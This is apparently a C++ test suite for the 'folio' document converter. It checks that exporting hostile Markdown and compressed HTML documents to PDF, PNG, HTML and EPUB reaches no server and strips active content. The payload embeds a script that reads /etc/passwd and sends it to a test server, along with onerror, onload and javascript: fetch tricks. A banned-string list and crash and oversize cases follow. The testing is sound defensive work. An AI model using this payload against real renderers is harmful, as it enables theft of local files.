#include "platform/foundation/Deflate.h"
#include "platform/foundation/ZipArchive.h"
#include "platform/graphics/Image.h"

#include "export/pdf/HTMLToPDFTestSupport.h"
#include "support/DocumentTestSupport.h"
#include "support/LoopbackServer.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <cstdlib>

namespace folio {
namespace {

using namespace testing_support;

std::string lowercased(std::string text)
{
    std::transform(text.begin(), text.end(), text.begin(), [](unsigned char c) { return std::tolower(c); });
    return text;
}

// Documents sent by an attacker: a script that reads a local file and sends
// it to a server, and every other way a page reaches out.
class HostileDocument : public testing::TestWithParam<const char*> {
protected:
    static int folio(const std::string& arguments)
    {
        std::string command = "'" FOLIO_BINARY_DIR "/folio' " + arguments + " >/dev/null 2>&1";
        int status = std::system(command.c_str());
        return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
    }

    std::string payload() const
    {
        std::string server = m_server.url("");
        return "<p>Visible words</p>"
               "<script>var r=new XMLHttpRequest();r.open('GET','file:///etc/passwd',false);r.send();"
               "document.body.innerText=r.responseText;var s=new XMLHttpRequest();s.open('GET','"
            + server + "/xhr?'+encodeURIComponent(r.responseText),false);s.send();</script>"
            + "<img src=\"" + server + "/img.png\"><img src=\"missing.png\" onerror=\"fetch('" + server
            + "/onerror')\"><link rel=\"stylesheet\" href=\"" + server + "/sheet.css\">"
            + "<style>body{background:url(" + server + "/background.png)}</style><p style=\"background:url(" + server
            + "/inline.png)\">Styled</p><svg onload=\"fetch('" + server + "/svg')\"></svg>"
            + "<a href=\"javascript:fetch('" + server + "/link')\">Linked words</a>"
            + "<iframe src=\"file:///etc/passwd\"></iframe>";
    }

    std::string makeDocument()
    {
        std::string kind = GetParam();
        std::string path = m_folder.path("hostile." + kind);
        if (kind == "md") {
            writeFile(path, "# Heading\n\n" + payload() + "\n");
            return path;
        }
        std::string html = payload();
        auto compressed = Deflate::compress(std::span(reinterpret_cast<const std::uint8_t*>(html.data()), html.size()));
        EXPECT_TRUE(compressed.ok());
        writeFile(path, std::string_view(reinterpret_cast<const char*>(compressed->bytes()), compressed->length()));
        return path;
    }

    static void expectNothingActive(const std::string& text, const std::string& what)
    {
        std::string folded = lowercased(text);
        for (const char* banned : {"<script", "onerror", "onload", "javascript:", "127.0.0.1", "<iframe", "root:"})
            EXPECT_EQ(folded.find(banned), std::string::npos) << banned << " in " << what << ":\n" << text;
    }

    LoopbackServer m_server;
    ScratchFolder m_folder{"hostile-document"};
};

TEST_P(HostileDocument, rendersWithoutReachingOut)
{
    ASSERT_TRUE(m_server.isListening());
    std::string document = makeDocument();

    std::string pdf = m_folder.path("out.pdf");
    ASSERT_EQ(folio("export '" + document + "' --format pdf --output '" + pdf + "'"), 0);
    std::string text = pdfText(pdf, 1);
    EXPECT_NE(text.find("Visible words"), std::string::npos) << text;
    EXPECT_EQ(text.find("root:"), std::string::npos) << text;

    std::string png = m_folder.path("out.png");
    ASSERT_EQ(folio("export '" + document + "' --format png --output '" + png + "'"), 0);
    EXPECT_TRUE(Image::imageWithContentsOfFile(png).ok());
    std::string preview = m_folder.path("preview.png");
    ASSERT_EQ(folio("preview '" + document + "' --output '" + preview + "'"), 0);
    EXPECT_TRUE(Image::imageWithContentsOfFile(preview).ok());

    EXPECT_EQ(m_server.connectionCount(), 0);
}

TEST_P(HostileDocument, exportsHTMLAndBooksWithNothingActive)
{
    std::string document = makeDocument();
    std::string html = m_folder.path("out.html");
    ASSERT_EQ(folio("export '" + document + "' --format html --output '" + html + "'"), 0);
    std::string page = readFile(html);
    expectNothingActive(page, "the HTML");
    EXPECT_NE(page.find("Visible words"), std::string::npos) << page;
    EXPECT_NE(page.find("Linked words"), std::string::npos) << page;

    std::string book = m_folder.path("out.epub");
    ASSERT_EQ(folio("export '" + document + "' --format epub --output '" + book + "'"), 0);
    auto archive = DKZipArchive::open(book);
    ASSERT_TRUE(archive.ok()) << archive.error().message;
    auto chapter = archive->readEntry("OPS/chapter-1.xhtml");
    ASSERT_TRUE(chapter.ok()) << chapter.error().message;
    std::string chapterText(reinterpret_cast<const char*>(chapter->bytes()), chapter->length());
    expectNothingActive(chapterText, "the book");
    EXPECT_NE(chapterText.find("Visible words"), std::string::npos) << chapterText;
}

// A style sheet that crashes the page's process: the export ends with a
// message as soon as the process is gone, well before its load time-out.
TEST(CrashingDocument, failsEveryPictureExportAtOnce)
{
    ScratchFolder folder("crashing-document");
    std::string html = "<style>";
    for (int index = 0; index < 1000; ++index)
        html += "a{";
    auto compressed = Deflate::compress(std::span(reinterpret_cast<const std::uint8_t*>(html.data()), html.size()));
    ASSERT_TRUE(compressed.ok());
    std::string document = folder.path("crash.qvtext");
    writeFile(document, std::string_view(reinterpret_cast<const char*>(compressed->bytes()), compressed->length()));
    for (std::string command : {"export '" + document + "' --format pdf --output '" + folder.path("out.pdf") + "'",
                                "export '" + document + "' --format png --output '" + folder.path("out.png") + "'",
                                "preview '" + document + "' --output '" + folder.path("preview.png") + "'"}) {
        // A missed crash would wait for the page's time-out (60 s for a
        // preview, 120 s for an export); the crash itself ends it in about a
        // second, and the bound leaves room for a busy machine's start-up.
        std::string output = commandOutput("timeout -s KILL 45 '" FOLIO_BINARY_DIR "/folio' " + command
                                           + " 2>&1; echo \"exit $?\"");
        EXPECT_NE(output.find("crashed"), std::string::npos) << command << ": " << output;
        EXPECT_NE(output.find("exit 1"), std::string::npos) << command << ": " << output;
    }
    EXPECT_FALSE(std::filesystem::exists(folder.path("out.pdf")));
    EXPECT_FALSE(std::filesystem::exists(folder.path("out.png")));
}

// Documents whose sizes would lay a few words out over tens of thousands of
// pages: an absurd font size is brought down to a real one, and a page that
// would still print on more pages than any document has is refused.
TEST(OversizedDocument, absurdSizesPrintOnFewPagesOrAreRefused)
{
    ScratchFolder folder("oversized-document");
    auto writeQV = [&](const std::string& name, const std::string& html) {
        auto compressed = Deflate::compress(std::span(reinterpret_cast<const std::uint8_t*>(html.data()), html.size()));
        EXPECT_TRUE(compressed.ok());
        std::string path = folder.path(name);
        writeFile(path, std::string_view(reinterpret_cast<const char*>(compressed->bytes()), compressed->length()));
        return path;
    };
    auto exportPDF = [&](const std::string& document, const std::string& pdf) {
        return commandOutput("'" FOLIO_BINARY_DIR "/folio' export '" + document + "' --format pdf --output '" + pdf
                             + "' 2>&1; echo \"exit $?\"");
    };

    std::string huge = writeQV("huge.qvtext", "<p style=\"font-size:1e308px\">Huge</p>"
                                              "<p style=\"font-size:3em\"><span style=\"font-size:1e9%\">Nested</span></p>"
                                              "<p>Visible words</p>");
    std::string pdf = folder.path("huge.pdf");
    std::string output = exportPDF(huge, pdf);
    ASSERT_NE(output.find("exit 0"), std::string::npos) << output;
    EXPECT_LE(pdfPageCount(pdf), 4);
    std::string text = pdfText(pdf, 1);
    EXPECT_NE(text.find("H"), std::string::npos) << text;

    std::string tall = writeQV("tall.qvtext", "<div style=\"height:1e308px\">x</div><p>after</p>");
    output = exportPDF(tall, folder.path("tall.pdf"));
    EXPECT_NE(output.find("more than the 20000 a document may have"), std::string::npos) << output;
    EXPECT_NE(output.find("exit 1"), std::string::npos) << output;
    EXPECT_FALSE(std::filesystem::exists(folder.path("tall.pdf")));
}

INSTANTIATE_TEST_SUITE_P(Kinds, HostileDocument, testing::Values("md", "qvtext"));

} // namespace
} // namespace folio
